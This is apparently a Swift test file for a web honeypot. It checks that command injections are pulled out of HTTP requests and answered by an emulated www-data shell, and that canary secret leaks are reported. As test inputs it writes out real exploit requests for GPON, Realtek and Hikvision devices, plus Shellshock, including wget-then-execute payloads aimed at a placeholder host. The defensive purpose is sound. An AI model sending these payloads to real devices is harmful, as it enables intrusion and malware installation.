import Foundation
import MitsuCore
import MitsuShell
import XCTest
@testable import MitsuWeb

/// Command injections answered with the fake host's output (MitsuShell, as www-data), and the
/// extraction of the injected command from the places exploits put it.
final class InjectedCommandTests: XCTestCase {
    struct Unparsed: Error {}

    func request(_ raw: String) throws -> (HTTPRequest, RequestView) {
        var p = HTTPRequestParser(limits: HTTPLimits())
        guard case .request(let r)? = p.feed(Array(raw.utf8)).first else { throw Unparsed() }
        return (r, RequestView(r))
    }

    func extract(_ raw: String) throws -> String? {
        let (r, v) = try request(raw)
        return InjectedCommand.extract(r, view: v)
    }

    func testCommandsAreFoundWhereExploitsPutThem() throws {
        XCTAssertEqual(try extract("GET /ping.php?ip=127.0.0.1;id HTTP/1.1\r\nHost: x\r\n\r\n"), "id")
        XCTAssertEqual(try extract("GET /x?host=a%7Cuname%20-a HTTP/1.1\r\nHost: x\r\n\r\n"), "uname -a")
        XCTAssertEqual(try extract("GET /x?q=%24(cat%20/etc/passwd) HTTP/1.1\r\nHost: x\r\n\r\n"), "cat /etc/passwd")
        XCTAssertEqual(try extract("GET /x?q=%60whoami%60 HTTP/1.1\r\nHost: x\r\n\r\n"), "whoami")
        XCTAssertEqual(try extract("GET /x?ip=1.2.3.4%27;id;%27 HTTP/1.1\r\nHost: x\r\n\r\n"), "id")
        // GPON CVE-2018-10562: the command after the backticks and `;` in dest_host.
        let gpon = "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`busybox+wget+http://192.0.2.7/x+-O+/tmp/gpon8080;sh+/tmp/gpon8080`&ipv=0"
        XCTAssertEqual(try extract("POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: \(gpon.utf8.count)\r\n\r\n\(gpon)"),
                       "busybox wget http://192.0.2.7/x -O /tmp/gpon8080;sh /tmp/gpon8080")
        // Realtek CVE-2014-8361: inside <NewInternalClient>.
        let soap = "<?xml version=\"1.0\" ?><s:Envelope><s:Body><u:AddPortMapping><NewRemoteHost></NewRemoteHost><NewInternalClient>`cd /var; wget http://192.0.2.7/rt; chmod 777 rt; ./rt realtek`</NewInternalClient></u:AddPortMapping></s:Body></s:Envelope>"
        XCTAssertEqual(try extract("POST /picsdesc.xml HTTP/1.1\r\nHost: x\r\nContent-Length: \(soap.utf8.count)\r\n\r\n\(soap)"),
                       "cd /var; wget http://192.0.2.7/rt; chmod 777 rt; ./rt realtek")
        // Hikvision CVE-2021-36260: $( ) in <language>.
        let hik = "<?xml version=\"1.0\" encoding=\"UTF-8\"?><language>$(id>webLib/x)</language>"
        XCTAssertEqual(try extract("PUT /SDK/webLanguage HTTP/1.1\r\nHost: x\r\nContent-Length: \(hik.utf8.count)\r\n\r\n\(hik)"), "id>webLib/x")
        // Shellshock in a header.
        XCTAssertEqual(try extract("GET /cgi-bin/status HTTP/1.1\r\nHost: x\r\nUser-Agent: () { :; }; echo; /bin/bash -c 'cat /etc/hostname'\r\n\r\n"),
                       "echo; /bin/bash -c 'cat /etc/hostname'")
        // Ordinary headers full of `;` are not injections.
        XCTAssertNil(try extract("GET /?a=1 HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: text/html;q=0.9\r\n\r\n"))
    }

    func context() throws -> WebContext {
        let rules = try WebRuleSet.load(path: try WebRuleSet.builtInPath())
        let host = MitsuHost(dataDirectory: nil, artifacts: nil, pacing: NoPacing(), hostname: "web01")
        return WebContext(classifier: WebClassifier(rules: rules),
                          responder: WebResponder(persona: .nginx(hostname: "web01"), canaries: CanaryValues(seed: [1, 2, 3], host: "web01"),
                                                  installedAt: Date(timeIntervalSince1970: 1_700_000_000)),
                          artifacts: nil, shell: InjectedShell(program: host, timeLimit: 5))
    }

    func run(_ raw: String, _ ctx: WebContext) async throws -> (page: String, first: WebSession.Output, after: WebSession.Output) {
        var s = WebSession(context: ctx, endpoints: Endpoints(srcIP: "192.0.2.9", srcPort: 50000, destIP: "192.0.2.1", destPort: 80), scheme: "http")
        let date = Date(timeIntervalSince1970: 1_800_000_000)
        s.now = { date }
        let first = s.received(Array(raw.utf8))
        let command = try XCTUnwrap(first.command)
        XCTAssertTrue(first.writes.isEmpty, "the answer waits for the command")
        let shell = try XCTUnwrap(ctx.shell)
        let result = await shell.run(command, session: s.id, endpoints: s.endpoints)
        let after = s.commandFinished(result)
        let text = String(decoding: Array(after.writes.joined()), as: UTF8.self)
        let body = text.components(separatedBy: "\r\n\r\n").dropFirst().joined(separator: "\r\n\r\n")
        return (body, first, after)
    }

    func testInjectedIdRunsAsWwwData() async throws {
        let (page, first, after) = try await run("GET /ping.php?ip=127.0.0.1;id HTTP/1.1\r\nHost: x\r\n\r\n", try context())
        XCTAssertEqual(page, "<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)\n</pre>\n")
        XCTAssertTrue(first.events.contains { $0.kind == .httpRequest && $0.attack?.categories.contains("cmd_injection") == true })
        XCTAssertTrue(after.events.contains { $0.kind == .commandInput && $0.input == "id" && $0.honeypot == "web" })
        XCTAssertFalse(after.close)
    }

    func testWhoamiPwdAndPasswdComeFromTheFakeHost() async throws {
        let ctx = try context()
        let whoami = try await run("GET /x?q=%60whoami%60 HTTP/1.1\r\nHost: x\r\n\r\n", ctx).page
        XCTAssertEqual(whoami, "<pre>www-data\n</pre>\n")
        let pwd = try await run("GET /x?cmd=a;pwd HTTP/1.1\r\nHost: x\r\n\r\n", ctx).page
        XCTAssertEqual(pwd, "<pre>/var/www/html\n</pre>\n")
        let passwd = try await run("GET /x?q=%24(cat%20/etc/passwd) HTTP/1.1\r\nHost: x\r\n\r\n", ctx).page
        XCTAssertTrue(passwd.hasPrefix("<pre>root:x:0:0:root:/root:/bin/bash\n"), passwd)
        XCTAssertTrue(passwd.contains("www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n"))
        let uname = try await run("GET /x?host=a%7Cuname%20-s HTTP/1.1\r\nHost: x\r\n\r\n", ctx).page
        XCTAssertEqual(uname, "<pre>Linux\n</pre>\n")
    }

    func testOutputIsEscapedAndStderrIsNotShown() async throws {
        let ctx = try context()
        let echo = try await run("GET /x?ip=1;echo%20%27%3Cscript%3E%27 HTTP/1.1\r\nHost: x\r\n\r\n", ctx).page
        XCTAssertEqual(echo, "<pre>&lt;script&gt;\n</pre>\n")
        // Unquoted, `<script>` is a redirection from a missing file, as bash reads it: nothing on stdout.
        let redirect = try await run("GET /x?ip=1;echo%20%3Cscript%3E HTTP/1.1\r\nHost: x\r\n\r\n", ctx).page
        XCTAssertEqual(redirect, "<pre></pre>\n")
        let missing = try await run("GET /x?ip=1;cat%20/nonexistent HTTP/1.1\r\nHost: x\r\n\r\n", ctx).page
        XCTAssertEqual(missing, "<pre></pre>\n")
    }

    func testWgetDoesNotFetchAndPipelinedRequestsWaitTheirTurn() async throws {
        let ctx = try context()
        let raw = "GET /x?ip=1;wget%20http://192.0.2.7/bot HTTP/1.1\r\nHost: x\r\n\r\nGET /robots.txt HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
        let (_, first, after) = try await run(raw, ctx)
        // The URL is recorded for URLFetcher (which fetches only when downloads are on), not fetched by the shell.
        XCTAssertTrue(first.events.contains { $0.kind == .urlSeen && $0.url == "http://192.0.2.7/bot" })
        XCTAssertFalse(after.events.contains { $0.kind == .fileDownload || $0.kind == .fileDownloadFailed })
        let text = String(decoding: Array(after.writes.joined()), as: UTF8.self)
        XCTAssertTrue(text.hasPrefix("HTTP/1.1 200 OK\r\n"))
        let robots = try XCTUnwrap(text.range(of: "Disallow: /wp-admin/"))
        XCTAssertLessThan(try XCTUnwrap(text.range(of: "</pre>")).lowerBound, robots.lowerBound)
        XCTAssertTrue(after.close)
    }

    func testTimeLimitCutsALongCommand() async throws {
        let host = MitsuHost(dataDirectory: nil, artifacts: nil, pacing: RealPacing(), hostname: "web01")
        let shell = InjectedShell(program: host, timeLimit: 0.5)
        let started = Date()
        let r = await shell.run("echo before; sleep 30; echo after", session: .random(),
                                endpoints: Endpoints(srcIP: "192.0.2.9", srcPort: 1, destIP: "192.0.2.1", destPort: 80))
        XCTAssertLessThan(Date().timeIntervalSince(started), 5)
        XCTAssertTrue(r.timedOut)
        XCTAssertEqual(String(decoding: r.output, as: UTF8.self), "before\n")
    }

    func testWithoutAShellTheOrdinaryPageAnswers() throws {
        var ctx = try context()
        ctx.shell = nil
        var s = WebSession(context: ctx, endpoints: Endpoints(srcIP: "192.0.2.9", srcPort: 50000, destIP: "192.0.2.1", destPort: 80), scheme: "http")
        let out = s.received(Array("GET /ping.php?ip=127.0.0.1;id HTTP/1.1\r\nHost: x\r\n\r\n".utf8))
        XCTAssertNil(out.command)
        XCTAssertTrue(String(decoding: Array(out.writes.joined()), as: UTF8.self).hasPrefix("HTTP/1.1 404 Not Found\r\n"))
    }

    func testEnvLeakIsReported() throws {
        var ctx = try context()
        ctx.shell = nil
        var s = WebSession(context: ctx, endpoints: Endpoints(srcIP: "192.0.2.9", srcPort: 50000, destIP: "192.0.2.1", destPort: 80), scheme: "http")
        let out = s.received(Array("GET /.env HTTP/1.1\r\nHost: x\r\n\r\nHEAD /.git/config HTTP/1.1\r\nHost: x\r\n\r\n".utf8))
        let leaks = out.events.filter { $0.kind == .canaryLeaked }
        XCTAssertEqual(leaks.count, 1, "a HEAD shows nothing")
        XCTAssertEqual(leaks.first?.canary?.name, "db_user,db_password,mail_password,aws_access_key_id,aws_secret_access_key,app_key")
        XCTAssertEqual(leaks.first?.canary?.leakURL, "/.env")
        XCTAssertEqual(leaks.first?.session, s.id)
        let c = CanaryValues(seed: [1, 2, 3], host: "web01")
        XCTAssertTrue(String(decoding: Array(out.writes.joined()), as: UTF8.self).contains("DB_PASSWORD=\(c.dbPassword)\n"))
    }
}
